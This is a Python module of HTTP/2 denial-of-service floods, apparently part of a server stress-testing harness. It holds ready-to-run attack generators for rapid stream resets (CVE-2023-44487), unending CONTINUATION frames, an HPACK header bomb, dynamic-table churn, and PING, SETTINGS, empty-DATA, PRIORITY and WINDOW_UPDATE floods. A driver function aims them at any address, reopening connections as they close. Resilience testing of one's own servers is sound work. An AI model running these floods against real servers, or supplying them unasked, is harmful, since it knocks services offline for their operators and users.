"""Floods: attackers that send as fast as they can, each on one connection, which they open again when it is closed."""

import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence

from attacks import frames
from attacks.connection import CHECK, MAX_STREAMS, STREAM, Connection, data, open_call, reset, settings, window

BLOCK = frames.header_block(CHECK)
FILLED = 60_000
"""Bytes of a message that is never finished; its prefix announces more."""
Sent = Iterator[bytes]
"""What one connection sends, in portions that the connection sends whole. Ends if it has nothing left to send."""


def single_bytes() -> Sent:
    """Messages in frames of one byte."""
    for stream in range(1, 2**30, 2):
        yield open_call(stream, BLOCK) + data(stream, b"\0\0\0\xff\xff")
        for _ in range(FILLED // 200):
            yield data(stream, b"x") * 200
        yield reset(stream)


def single_bytes_on_many_streams() -> Sent:
    """As many unfinished messages as are allowed, each a byte longer in each round."""
    streams = range(1, 2 * MAX_STREAMS, 2)
    yield b"".join(open_call(stream, BLOCK) + data(stream, b"\0\0\0\xff\xff") for stream in streams)
    round_ = b"".join(data(stream, b"x") for stream in streams)
    for _ in range(60_000):
        yield round_


def resets() -> Sent:
    """Calls that are reset as soon as they are made: CVE-2023-44487."""
    for first in range(1, 2**30, 100):
        yield b"".join(open_call(stream, BLOCK) + reset(stream) for stream in range(first, first + 100, 2))


def wrong_calls() -> Sent:
    """Calls that make the server reset them, by a frame that is not allowed there."""
    for first in range(1, 2**30, 100):
        yield b"".join(open_call(stream, BLOCK) + window(stream, 0) for stream in range(first, first + 100, 2))


def continuations() -> Sent:
    """A header block without an end, in frames without content."""
    yield frames.frame(frames.HEADERS, 0, 1, BLOCK)
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 1) * 500


def endless_headers() -> Sent:
    """A header block without an end, in large frames."""
    yield frames.frame(frames.HEADERS, 0, 1, BLOCK)
    filler = b"\x00\x01x\x7f\x81\x3e" + b"y" * 8064
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 1, filler)


def many_headers() -> Sent:
    """Calls with thousands of headers."""
    block = BLOCK + b"\x00\x01h\x01v" * 3000
    for stream in range(1, 2**30, 2):
        yield open_call(stream, block, end=True)


def header_bomb() -> Sent:
    """Calls whose header block refers ten thousand times to one large entry of the dynamic table."""
    yield open_call(1, BLOCK + b"\x40\x01x\x7f\x81\x1d" + b"y" * 3840, end=True)
    for stream in range(3, 2**30, 2):
        yield open_call(stream, BLOCK + b"\xbe" * 10_000, end=True)


def table_churn() -> Sent:
    """Calls each of which replaces the whole dynamic table, after changing its size."""
    block = b"\x20\x3f\xe1\x1f" + BLOCK + b"\x40\x01x\x01y" * 100
    for first in range(1, 2**30, 20):
        yield b"".join(open_call(stream, block) + reset(stream) for stream in range(first, first + 20, 2))


def pings() -> Sent:
    """PING."""
    while True:
        yield frames.frame(frames.PING, 0, 0, b"attacker") * 500


def empty_settings() -> Sent:
    """SETTINGS: CVE-2019-9515."""
    while True:
        yield settings({frames.INITIAL_WINDOW_SIZE: 65_535}) * 500


def empty_data() -> Sent:
    """DATA without content: CVE-2019-9518."""
    yield open_call(1, BLOCK)
    while True:
        yield data(1, b"") * 500


def priorities() -> Sent:
    """PRIORITY of streams that do not exist: CVE-2019-9513."""
    while True:
        yield b"".join(frames.frame(frames.PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 1001, 2))


def window_updates() -> Sent:
    """WINDOW_UPDATE by one byte each."""
    yield open_call(1, frames.header_block(STREAM))
    while True:
        yield window(1, 1) * 250 + window(0, 1) * 250


FLOODS: dict[str, Callable[[], Sent]] = {
    flood.__name__: flood
    for flood in (
        single_bytes,
        single_bytes_on_many_streams,
        resets,
        wrong_calls,
        continuations,
        endless_headers,
        many_headers,
        header_bomb,
        table_churn,
        pings,
        empty_settings,
        empty_data,
        priorities,
        window_updates,
    )
}


def flood(address: str, until: float, names: Sequence[str], *, reading: bool = True) -> Counter[str]:
    """Send what FLOODS has under each of NAMES in turn, for equal times.

    Without READING, what comes back is never taken from the kernel.
    """
    counts: Counter[str] = Counter()
    began = time.monotonic()
    for number, name in enumerate(names, 1):
        _flood(address, began + (until - began) * number / len(names), name, counts, reading=reading)
    return counts


def _flood(address: str, until: float, name: str, counts: Counter[str], *, reading: bool) -> None:
    while time.monotonic() < until:
        try:
            connection = Connection(address, receive_buffer=0 if reading else 4096)
        except OSError:
            counts["refused"] += 1
            time.sleep(0.05)
            continue
        with connection:
            counts["connections"] += 1
            for portion in FLOODS[name]():
                if time.monotonic() >= until or connection.closed or not connection.send(portion, 1):
                    break
                counts["KiB"] += len(portion) // 1024
                if reading:
                    connection.drain()
            counts["cut off"] += connection.closed
